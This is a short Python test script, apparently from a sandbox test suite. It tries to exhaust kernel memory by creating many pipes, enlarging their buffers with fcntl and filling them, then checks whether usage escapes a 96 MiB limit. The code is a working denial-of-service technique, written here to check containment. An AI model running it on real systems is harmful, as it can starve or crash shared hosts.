# SPDX-License-Identifier: Apache-2.0
# attack: memory of the kernel: pipes and socketpairs filled to the brim
# class: resources
# wins: effect
# native: n/a: that memory is nobody's; what counts is that it is bounded under proctor
# limits: mem=96 wall=15
from kit import *

import socket
tried()
total = 0
block = b'x' * 65536
keep = []
try:
    while total < 600 << 20:
        r, w = os.pipe()
        keep += [r, w]
        sc('fcntl', w, 1031, 1 << 20)
        os.set_blocking(w, False)
        try:
            while True:
                total += os.write(w, block)
        except BlockingIOError:
            pass
except OSError as e:
    say(e)
say('KERNEL BYTES', total)
if total > 4 * 96 << 20:
    effect('%d MiB of kernel memory with a limit of 96' % (total >> 20))
